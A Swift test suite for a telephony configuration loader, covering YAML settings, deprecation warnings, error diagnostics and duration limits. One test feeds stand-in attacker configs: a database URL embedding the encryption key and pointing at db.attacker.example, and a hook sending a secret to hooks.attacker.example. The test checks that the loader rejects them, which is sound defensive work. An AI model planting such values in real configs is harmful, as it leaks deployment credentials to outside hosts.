import Foundation
import Testing
import SwitchboardLoader
import SwitchboardModel

struct SettingsLoaderTests {
    @Test func readsEverySetting() throws {
        let corpus = try Corpus([("switchboard.yaml", """
            database: ${DATABASE_URL}
            directory: config/tenants.d
            defaultRegion: FR
            prune: {routes: all, sipAccounts: none}
            guard: {maxDeletes: 25}
            hooks:
              sipReload:
                notify: sip_accounts_changed
                http: {url: "http://sip-server:8000/api/admin/sip-accounts/reload", tokenEnv: SIP_RELOAD_TOKEN, timeout: 5s, retries: 3}
                command: [systemctl, reload, sip-agent]
            daemon: {interval: 2m, listen: "127.0.0.1:9464", selfHeal: false, debounce: 300ms}

            """)])
        let (settings, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
        #expect(diagnostics.isEmpty)
        #expect(settings.database == "${DATABASE_URL}")
        #expect(settings.directory == "config/tenants.d")
        #expect(settings.defaultRegion == "FR")
        #expect(settings.pruneMode(for: .routes) == .all)
        #expect(settings.pruneMode(for: .sipAccounts) == PruneMode.none)
        #expect(settings.pruneMode(for: .tenants) == .owned)
        #expect(settings.maxDeletes == .count(25))
        #expect(settings.sipReload.notifyChannel == "sip_accounts_changed")
        #expect(settings.sipReload.http?.tokenEnvironmentVariable == "SIP_RELOAD_TOKEN")
        #expect(settings.sipReload.http?.timeout.milliseconds == 5000)
        #expect(settings.sipReload.http?.retries == 3)
        #expect(settings.sipReload.command == ["systemctl", "reload", "sip-agent"])
        #expect(settings.daemon.interval.milliseconds == 120_000)
        #expect(settings.daemon.debounce.milliseconds == 300)
        #expect(settings.daemon.selfHeal == false)
    }

    @Test func defaultCountryCodeMapsToItsMainRegionWithADeprecationWarning() throws {
        let corpus = try Corpus([("switchboard.yaml", "defaultCountryCode: \"33\"\n"), ("other.yaml", "defaultCountryCode: \"1\"\ndefaultRegion: CA\n")])
        let (settings, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
        #expect(settings.defaultRegion == "FR")
        #expect(diagnostics.map(corpus.relative) == [
            "switchboard.yaml:1:21: warning: defaultCountryCode is deprecated: write defaultRegion: FR (national numbers are read by the region's rules)",
        ])
        let (both, bothDiagnostics) = SettingsLoader.load(path: corpus.root + "/other.yaml")
        #expect(both.defaultRegion == "CA")
        #expect(bothDiagnostics.map(corpus.relative) == ["other.yaml:1:21: warning: defaultCountryCode is deprecated and ignored beside defaultRegion: remove it"])
    }

    @Test func reportsBadSettingsWithLocations() throws {
        let corpus = try Corpus([("switchboard.yaml", """
            database: postgres://${PGHOST
            defaultCountryCode: "033"
            prune: some
            guard: {maxDeletes: lots}
            daemon: {interval: soon}
            hook: {}

            """)])
        let (_, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
        #expect(diagnostics.sortedForDisplay().map(corpus.relative) == [
            "switchboard.yaml:1:11: error: database: '${' without a closing '}'",
            "switchboard.yaml:2:21: error: defaultCountryCode '033' must be a country calling code: 1 to 3 digits, e.g. \"33\"",
            "switchboard.yaml:3:8: error: 'prune' must be one of owned, all, none, found 'some'",
            "switchboard.yaml:4:21: error: 'guard.maxDeletes' must be a whole number (a share like 10% or a count like 25), found 'lots'",
            "switchboard.yaml:5:20: error: 'interval' must be a duration like 300ms, 5s, 2m, 1h or 1m30s (at most 8784h), found 'soon'",
            "switchboard.yaml:6:1: error: unknown top-level key 'hook' (did you mean 'hooks'?)",
        ])
    }

    /// switchboard.yaml is in the repository a pull request writes: it cannot make a hook send, or a
    /// database URL carry, switchboard's own credentials.
    @Test func hooksAndTheDatabaseURLNeverCarrySwitchboardsOwnCredentials() throws {
        let corpus = try Corpus([("switchboard.yaml", """
            database: "postgres://app:${SWITCHBOARD_ENCRYPTION_KEY}@db.attacker.example/x"
            hooks:
              sipReload:
                http: {url: "https://hooks.attacker.example/", tokenEnv: DATABASE_URL}

            """), ("pg.yaml", """
            database: "postgres://app:${PGPASSWORD}@db/${SWITCHBOARD_DATABASE_URL}"
            hooks: {sipReload: {http: {url: "https://h.example/", tokenEnv: PGPASSWORD}}}

            """), ("key.yaml", "hooks: {sipReload: {http: {url: \"https://h.example/\", tokenEnv: SWITCHBOARD_OLD_ENCRYPTION_KEYS}}}\n")])
        let (settings, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
        #expect(diagnostics.map(corpus.relative) == [
            "switchboard.yaml:1:11: error: database: ${…} may not name a SWITCHBOARD_* variable other than SWITCHBOARD_DATABASE_URL (the encryption key never goes into a URL)",
            "switchboard.yaml:4:62: error: tokenEnv 'DATABASE_URL' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
        ])
        #expect(settings.database == nil)
        #expect(settings.sipReload.http?.tokenEnvironmentVariable == nil)
        let (pg, pgDiagnostics) = SettingsLoader.load(path: corpus.root + "/pg.yaml")
        #expect(pg.database == "postgres://app:${PGPASSWORD}@db/${SWITCHBOARD_DATABASE_URL}")
        #expect(pgDiagnostics.map(corpus.relative) == [
            "pg.yaml:2:65: error: tokenEnv 'PGPASSWORD' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
        ])
        let (_, keyDiagnostics) = SettingsLoader.load(path: corpus.root + "/key.yaml")
        #expect(keyDiagnostics.map(corpus.relative) == [
            "key.yaml:1:65: error: tokenEnv 'SWITCHBOARD_OLD_ENCRYPTION_KEYS' is a variable switchboard itself uses (DATABASE_URL, SWITCHBOARD_*, PG*): a hook's token is never one of them",
        ])
    }

    /// A duration too long for any clock is an error, never an arithmetic overflow (a crash).
    @Test func durationsBeyondAYearAreErrorsNotCrashes() throws {
        let corpus = try Corpus([("switchboard.yaml", """
            guard: {window: 99999999999999999h}
            daemon: {interval: 8785h, debounce: 9223372036854775807ms}
            hooks: {sipReload: {http: {url: "http://h/", timeout: 8784h}}}

            """)])
        let (settings, diagnostics) = SettingsLoader.load(path: corpus.root + "/switchboard.yaml")
        #expect(diagnostics.sortedForDisplay().map(corpus.relative) == [
            "switchboard.yaml:1:17: error: 'guard.window' must be a duration like 300ms, 5s, 2m, 1h or 1m30s (at most 8784h), found '99999999999999999h'",
            "switchboard.yaml:2:20: error: 'interval' must be a duration like 300ms, 5s, 2m, 1h or 1m30s (at most 8784h), found '8785h'",
            "switchboard.yaml:2:37: error: 'debounce' must be a duration like 300ms, 5s, 2m, 1h or 1m30s (at most 8784h), found '9223372036854775807ms'",
        ])
        #expect(settings.sipReload.http?.timeout == SettingDuration.longest)
        #expect(SettingDuration.parse("527040m") == SettingDuration.longest)
        #expect(SettingDuration.parse("31622400001ms") == nil)
    }

    /// `1m30s` as Go, systemd and Prometheus write it: parts largest first, each unit once.
    @Test func durationsMayHaveSeveralParts() {
        #expect(SettingDuration.parse("1m30s")?.milliseconds == 90_000)
        #expect(SettingDuration.parse("1h30m")?.milliseconds == 5_400_000)
        #expect(SettingDuration.parse("2s500ms")?.milliseconds == 2500)
        #expect(SettingDuration.parse("1h1m1s1ms")?.milliseconds == 3_661_001)
        for wrong in ["30s1m", "1m1m", "1m30", "m30s", "1d", "", "1.5s", "-1s", "1 m", "8784h1ms"] {
            #expect(SettingDuration.parse(wrong) == nil, "\(wrong)")
        }
    }

    @Test func expandsVariables() {
        #expect(VariableExpansion.expand("postgres://${U}@db/${D}", environment: ["U": "app", "D": "platform"]) == .success("postgres://app@db/platform"))
        #expect(VariableExpansion.expand("${DATABASE_URL}", environment: [:]) == .failure(.unset("DATABASE_URL")))
    }
}
